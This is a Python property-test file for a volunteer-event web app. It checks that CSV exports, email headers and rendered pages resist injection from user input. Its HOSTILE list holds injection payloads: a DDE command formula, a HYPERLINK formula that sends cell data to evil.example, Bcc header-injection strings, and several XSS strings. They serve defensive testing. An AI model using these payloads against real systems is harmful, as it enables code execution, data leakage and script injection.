"""Property tests over the real builders: whatever people type, a CSV export
runs no formula, an email gains no header, and a page gains no element.

Invites are covered the same way in tests/invites/test_property.py."""

from __future__ import annotations

import csv
import io
import itertools
from datetime import UTC, datetime
from email import message_from_bytes, policy
from html.parser import HTMLParser

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import _dispose, empty_database, fresh_app
from tests.helpers import examples
from volunteer_hub.attendance.export import BOM, to_csv
from volunteer_hub.comments.models import Comment, CommentState
from volunteer_hub.coordinators.services import create_coordinator
from volunteer_hub.events.models import Event, EventStatus, Venue
from volunteer_hub.extensions import db
from volunteer_hub.mail.compose import build_message, header_text
from volunteer_hub.markup import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
from volunteer_hub.rsvps.models import Rsvp
from volunteer_hub.rsvps.services import create_rsvp

#: Pieces attackers use, mixed into arbitrary text.
HOSTILE = [
    "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\0", " ", "\u00a0", "\uff1d",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1)", "@SUM(1+1)", "\r\nBcc: evil@example.com",
    "\nSubject: hijacked", "=?utf-8?q?=0D=0ABcc:_x@example.com?=", '"', "'", ",", ";", "<", ">",
    "&", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "javascript:alert(1)", "[x](javascript:alert(1))", "<a href='//evil.example'>x</a>",
    "<iframe src=//evil.example>", "<style>*{}</style>", "{{ config }}", "{% raw %}", "شیرین",
    "\u202e", "😀",
]
hostile_text = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=8), max_size=8).map("".join)
SETTINGS = settings(max_examples=examples(150), deadline=None)
#: How comments mark the web addresses they turn into links.
LINKIFIED_REL = "nofollow ugc noopener noreferrer"


# --- CSV exports -----------------------------------------------------------


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet could take ``cell`` for a formula: a leading
    control character, or a formula sign after any white space."""
    return cell.startswith(("\t", "\r", "\n", "\0")) or cell.lstrip().startswith(
        ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


@SETTINGS
@given(rows=st.lists(st.lists(hostile_text, min_size=3, max_size=3), max_size=6))
def test_no_cell_of_an_export_runs_as_a_formula(rows):
    document = to_csv(("Place", "Name", "Note"), rows)
    assert document.startswith(BOM)
    parsed = list(csv.reader(io.StringIO(document.removeprefix(BOM), newline="")))
    assert parsed[0] == ["Place", "Name", "Note"]
    assert len(parsed) == len(rows) + 1  # line breaks stay inside their cells
    for typed, written in zip(rows, parsed[1:], strict=True):
        for value, cell in zip(typed, written, strict=True):
            assert not runs_as_formula(cell), cell
            assert cell in (value.replace("\r\n", "\n").replace("\r", "\n"), "'" + value,
                            ("'" + value).replace("\r\n", "\n").replace("\r", "\n"), value)


# --- email headers ---------------------------------------------------------

EXPECTED_HEADERS = {"from", "to", "subject", "date", "message-id", "auto-submitted",
                    "content-language", "mime-version", "content-type"}


@pytest.fixture(scope="module")
def mail_app(tmp_path_factory):
    folder = tmp_path_factory.mktemp("mail")
    from volunteer_hub import create_app

    app = create_app({"DATABASE_URL": f"sqlite:///{folder}/db.sqlite3"},
                     instance_path=str(folder))
    yield app
    _dispose(app)


@settings(SETTINGS, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=hostile_text, subject=hostile_text, text=hostile_text)
def test_no_name_or_subject_adds_a_header_to_an_email(mail_app, name, subject, text):
    with mail_app.app_context():
        message = build_message(to_name=name, to_email="shirin@example.org", subject=subject,
                                text=text, html="<p>-</p>")
        sent = message.as_bytes()
    received = message_from_bytes(sent, policy=policy.default)
    assert {header.lower() for header in received} == EXPECTED_HEADERS
    assert [address.addr_spec for address in received["To"].addresses] == ["shirin@example.org"]
    # (the email package may add or drop white space where it folds a long
    # subject or splits it into encoded words; the text itself must survive)
    assert "".join(str(received["Subject"]).split()) == "".join(header_text(subject).split())
    assert "\n" not in str(received["To"]) and "\n" not in str(received["Subject"])
    for line in sent.split(b"\r\n\r\n", 1)[0].split(b"\r\n"):
        assert not line.lower().startswith((b"bcc:", b"cc:")), line


# --- HTML ------------------------------------------------------------------


class Elements(HTMLParser):
    """Every element and attribute of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = Elements()
    parser.feed(html)
    return parser.found


@SETTINGS
@given(source=hostile_text)
def test_markdown_yields_only_the_allowed_tags_and_safe_links(source):
    for tag, attributes in elements(str(render_markdown(source))):
        assert tag in ALLOWED_TAGS, tag
        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, attributes
        href = attributes.get("href", "").strip().lower()
        assert not href.startswith(("javascript:", "data:", "vbscript:")), href


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def site(request, tmp_path_factory):
    """One app with a coordinator's signed-in client for the whole module."""
    folder = tmp_path_factory.mktemp("injection")
    app = fresh_app(empty_database(request, folder), folder)
    app.numbers = itertools.count(1)
    with app.app_context():
        create_coordinator("admin@example.org", "Admin", "correct horse battery staple",
                           admin=True)
        db.session.commit()
    admin = app.test_client()
    admin.post("/console/login", data={"email": "admin@example.org",
                                       "password": "correct horse battery staple"})
    yield app, app.test_client(), admin
    _dispose(app)


def page_elements(client, path: str) -> list[tuple[str, dict[str, str]]]:
    response = client.get(path)
    assert response.status_code == 200, (path, response.status_code)
    return elements(response.get_data(as_text=True))


@settings(max_examples=examples(20), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=hostile_text.map(lambda text: text.replace("\0", "")[:100]).filter(str.strip))
def test_what_people_type_never_becomes_markup(site, text):
    """The same text as an event title, a venue, a person's name and a
    comment: every page shows it and none has one element more for it."""
    app, visitor, admin = site
    number = next(app.numbers)
    with app.app_context():
        event = Event(slug=f"injection-{number}", title="Plain title", description="Plain.",
                      timezone="UTC", starts_at=datetime(2027, 9, 25, 19, tzinfo=UTC),
                      ends_at=datetime(2027, 9, 25, 22, tzinfo=UTC), online=False,
                      status=EventStatus.PUBLISHED,
                      venues=[Venue(name="Hall", address="Street", timezone="UTC")])
        db.session.add(event)
        db.session.flush()
        rsvp = create_rsvp(event.id, name="Plain Name", email=f"p{number}@example.org",
                           venue_id=event.venues[0].id, guests=0, keep_updated=False,
                           submission_key=f"injection-{number}").rsvp
        db.session.add(Comment(event=event, name="Plain Name", body="Plain.",
                               state=CommentState.APPROVED))
        db.session.commit()
        event_id, slug, rsvp_id = event.id, event.slug, rsvp.id
    console = f"/console/events/{event_id}"
    pages = [(visitor, f"/events/{slug}"), (admin, console), (admin, f"/console/rsvps/{rsvp_id}"),
             (admin, f"{console}/attendance"), (admin, f"{console}/check-in"),
             (admin, "/console/comments")]
    before = {path: page_elements(client, path) for client, path in pages}

    with app.app_context():
        db.session.execute(sa.update(Event).where(Event.id == event_id).values(title=text))
        db.session.execute(sa.update(Venue).where(Venue.event_id == event_id).values(name=text))
        db.session.execute(sa.update(Rsvp).where(Rsvp.id == rsvp_id).values(name=text))
        db.session.execute(sa.update(Comment).where(Comment.event_id == event_id)
                           .values(name=text, body=text))
        db.session.commit()
    for client, path in pages:
        after = page_elements(client, path)
        # Comments turn web addresses into links, by design: only to the web.
        for tag, attributes in after:
            if tag == "a" and attributes.get("rel") == LINKIFIED_REL:
                assert attributes["href"].startswith(("http://", "https://")), attributes
        after = [(tag, attributes) for tag, attributes in after
                 if not (tag == "a" and attributes.get("rel") == LINKIFIED_REL)]
        assert [tag for tag, _ in after] == [tag for tag, _ in before[path]], path
        for (_, attributes), (_, earlier) in zip(after, before[path], strict=True):
            assert set(attributes) == set(earlier), (path, attributes)
